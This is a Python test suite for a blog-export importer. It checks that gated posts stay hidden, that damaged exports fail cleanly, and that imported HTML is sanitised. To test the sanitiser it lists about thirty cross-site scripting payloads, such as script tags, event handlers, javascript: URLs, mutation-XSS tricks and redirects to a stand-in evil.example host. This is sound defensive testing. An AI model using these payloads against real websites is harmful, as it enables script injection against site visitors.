"""Whatever lies in an export: what is not for all is not listed, nothing runs, nothing escapes."""

from __future__ import annotations

import random
import time
from collections.abc import Iterator, Mapping

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from publisher.config import ExportSpec, FilesSpec, SiteSpec
from publisher.errors import ArticleError
from publisher.manuscripts.file import file_name, write_file
from publisher.parse.document import Parsed, parse_document
from publisher.parse.items import Item, ItemFound, parse_item
from tests.export_samples import HIDDEN, MAKERS, SITE, Entry, damaged, export, read
from tests.nasty.markup import CASES

SITE_SPEC = SiteSpec(title="T", url=SITE, language="en", timezone="UTC")
SPEC = ExportSpec(name="moved", type="ghost", path="x")
FILES = FilesSpec(name="articles")
CANARY = "zz-canary"


def parsed(found: ItemFound) -> Parsed | None:
    """The article that an entry becomes; None for one that is withheld or refused."""
    if not isinstance(found, Item):
        return None
    try:
        return parse_item(found, site=SITE_SPEC, source=SPEC, look_up=lambda _: None)
    except ArticleError as error:
        problem = error
    assert problem.where is not None
    assert problem.mend
    return None


# ---------------------------------------------------------------- what is not for all


@pytest.mark.parametrize("kind", HIDDEN)
@settings(max_examples=15, deadline=None)
@given(data=st.data())
def test_what_is_not_for_all_is_not_listed(kind: str, data: st.DataObject) -> None:
    ways = data.draw(
        st.lists(st.one_of(st.none(), st.sampled_from(HIDDEN[kind])), min_size=1, max_size=6)
    )
    entries = [
        Entry(number=number, title=CANARY, html=f"<p>{CANARY} so.</p>", changes=way)
        if way is not None
        else Entry(number=number)
        for number, way in enumerate(ways, start=1)
    ]
    found, error = read(kind, export(kind, *entries))
    assert error is None
    assert len({one.name for one in found}) == len(found) >= len(entries)
    open_ = [p for p in map(parsed, found) if p is not None and not p.document.draft]
    for one in open_:
        assert CANARY not in one.body_html
        assert "zz-secret" not in one.body_html
    texts = sum("kg-gated-block" in str(way) for way in ways)
    assert len(open_) == ways.count(None) + texts


# ---------------------------------------------------------------- what runs

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.example/a.js></sCrIpT>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>t</a></svg>",
    "<img src=x onerror=alert(1)>",
    '<a href="java\tscript:alert(1)">t</a>',
    '<a href="&#106;avascript:alert(1)">t</a>',
    '<a href=" javascript:alert(1)">t</a>',
    '<a href="data:text/html,<script>alert(1)</script>">t</a>',
    '<base href="https://evil.example/"><a href="x">t</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>@import url(https://evil.example/a.css)</style>",
    '<p style="background:url(javascript:alert(1))">t</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=a'>",
    "＜script＞alert(1)＜/script＞",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<form action=https://evil.example/><input name=x><button formaction=javascript:a>t</form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details ontoggle=alert(1) open>t</details>",
    "<template><script>alert(1)</script></template>",
    "[caption caption='<script>alert(1)</script>']<img src=x onerror=alert(1)>[/caption]",
    '[audio src="javascript:alert(1)"]',
    "[embed]javascript:alert(1)[/embed]",
    "[code lang='\"><script>alert(1)</script>']x[/code]",
    "[youtube id='\"><script>alert(1)</script>']",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "<pre><code class='language-x\" onclick=alert(1)'>t</code></pre>",
)


def unsafe(content: str) -> Iterator[str]:
    """What could run, as another parser sees it."""
    if "<" not in content:
        return
    for element in lxml_html.fromstring(f"<div>{content}</div>").iter(lxml_html.etree.Element):
        if element.tag in ("script", "style", "iframe", "object", "embed", "form", "base", "svg"):
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            leads = name in ("href", "src", "cite", "poster", "xlink:href")
            if name.startswith("on") or name in ("style", "srcdoc", "action", "formaction"):
                yield f"<{element.tag} {name}>"
            elif leads and value.strip().partition(":")[0].lower() not in (
                "http",
                "https",
                "mailto",
            ):
                yield f"<{element.tag} {name}={value[:40]!r}>"


def nasty_bodies() -> list[str]:
    """The bodies of the project's own list of nasty mark-up."""
    texts = (
        raw.decode("utf-8", "replace").split("\n---\n", 1)[-1].replace("\0", "")
        for case in CASES
        for name, raw in case.files.items()
        if name.endswith(".md") and len(raw) < 4000
    )
    return [text for text in texts if text.strip()]


@pytest.mark.parametrize("kind", MAKERS)
def test_nothing_runs(kind: str) -> None:
    vectors = [*VECTORS, *nasty_bodies()]
    assert len(vectors) > 70
    texts = [
        Entry(number=number, title=f"T {text}", html=f"<p>Before</p>{text}<p>after</p>")
        for number, text in enumerate(vectors, start=1)
    ]
    if kind != "ghost":
        texts = [entry for entry in texts if "\0" not in entry.html]
    found, error = read(kind, export(kind, *texts))
    assert error is None, error
    articles = [one for one in map(parsed, found) if one is not None]
    assert len(articles) >= len(texts) - 3
    for one in articles:
        assert not list(unsafe(one.body_html)), one.body_html


def test_nothing_runs_from_a_file_that_was_imported() -> None:
    entries = [Entry(number=n, html=text) for n, text in enumerate(VECTORS, start=1)]
    found, _ = read("ghost", export("ghost", *entries))
    for one in filter(None, map(parsed, found)):
        name = f"{file_name(one.document)}.md"
        written = write_file(
            one.document, one.body_html, name, id_="tag:x", site=SITE_SPEC, source=SPEC
        )
        assert written.warnings == (), written.text
        again = parse_document(
            written.text.encode(), name, site=SITE_SPEC, source=FILES, look_up=lambda _: None
        )
        assert isinstance(again, Parsed)
        assert not list(unsafe(again.body_html)), written.text


@pytest.mark.parametrize(
    ("kind", "changes"),
    [
        ("wxr", {"link": "javascript:alert(1)", "guid": "javascript:alert(1)"}),
        ("wxr", {"meta": {"enclosure": "javascript:alert(1)\n1\naudio/mpeg"}}),
        ("ghost", {"canonical_url": "javascript:alert(1)", "feature_image": "javascript:a"}),
        ("substack", {"podcast_url": "javascript:alert(1)"}),
        ("beehiiv", {"url": "javascript:alert(1)", "thumbnail_url": "data:text/html,x"}),
    ],
)
def test_no_address_runs(kind: str, changes: Mapping[str, object]) -> None:
    found, _ = read(kind, export(kind, Entry(changes=changes)))
    one = parsed(found[0])
    told = repr(one.document) if one is not None else ""
    document = one.document if one is not None else None
    shown = (
        (document.address, document.id, document.picture, document.enclosures) if document else ()
    )
    assert "javascript:" not in repr(shown)
    assert "data:" not in repr(shown)
    assert told or one is None


# ---------------------------------------------------------------- what is damaged


def survives(kind: str, number: int) -> None:
    chance = random.Random(f"{kind} {number}")
    tree = export(kind, Entry(), Entry(number=2), Entry(number=3))
    name = chance.choice(sorted(tree))
    tree[name] = damaged(tree[name], chance)
    start = time.process_time()
    found, error = read(kind, tree)
    for one in found:
        parsed(one)
    assert error is None or (error.message and error.mend), (kind, number)
    assert time.process_time() - start < 1, (kind, number)


@pytest.mark.parametrize("kind", MAKERS)
def test_damage_ends_in_items_or_a_named_refusal(kind: str) -> None:
    for number in range(40):
        survives(kind, number)


@pytest.mark.long
@pytest.mark.parametrize("kind", MAKERS)
def test_much_damage_ends_in_items_or_a_named_refusal(kind: str) -> None:
    for number in range(4_000):
        survives(kind, number)


# ---------------------------------------------------------------- any text


@pytest.mark.parametrize("kind", ["wxr", "ghost", "beehiiv"])
@settings(max_examples=40, deadline=None)
@given(
    title=st.text(max_size=30).filter(lambda text: "\0" not in text),
    html=st.text(max_size=80).filter(lambda text: "\0" not in text),
)
@example(title="[a b=1]", html="[a b=1]\n\n<pre>")
def test_any_title_and_text_is_read(kind: str, title: str, html: str) -> None:
    def plain(text: str) -> str:
        return text.encode("utf-8", "ignore").decode()

    found, error = read(kind, export(kind, Entry(title=plain(title), html=plain(html))))
    if error is not None:
        assert kind == "wxr"  # characters that XML cannot hold
        return
    assert len(found) == 1
    parsed(found[0])
